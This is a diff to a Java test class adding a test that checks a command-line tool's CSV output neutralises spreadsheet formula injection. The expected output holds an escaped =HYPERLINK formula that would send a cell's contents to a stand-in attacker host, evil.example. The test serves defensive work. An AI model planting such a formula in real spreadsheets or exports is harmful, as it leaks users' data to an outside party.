@@ -134,6 +134,13 @@ class CallsOnTheCommandLineTest {
     }
 
     @Test
+    void noCellOfTheCsvIsAFormula() {
+        String csv = calls("src/test/resources/robust/csv.txt", "--format=csv").out();
+
+        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2;\"\"Call\"\")\"\r\n");
+    }
+
+    @Test
     void writesCsvForSpreadsheets() {
         var lines = calls(good, "--format=csv", "--problems").out().split("\r\n");
         assertThat(lines).hasSize(2);
